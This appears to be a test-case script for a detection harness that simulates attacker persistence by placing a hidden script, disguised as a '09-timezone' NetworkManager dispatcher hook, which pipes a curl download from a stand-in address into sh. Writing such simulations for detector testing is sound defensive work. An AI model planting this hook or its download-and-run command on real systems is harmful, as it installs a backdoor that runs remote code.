#!/bin/sh
. /opt/case/case.sh

mkdir -p /host/etc/NetworkManager/dispatcher.d
printf '#!/bin/sh\ncurl -s http://203.0.113.10/payload.sh | sh\n' >/host/etc/.n && chmod 755 /host/etc/.n
perl -e 'rename "/host/etc/.n", "/host/etc/NetworkManager/dispatcher.d/09-timezone" or die $!'
test -x /host/etc/NetworkManager/dispatcher.d/09-timezone
took_place
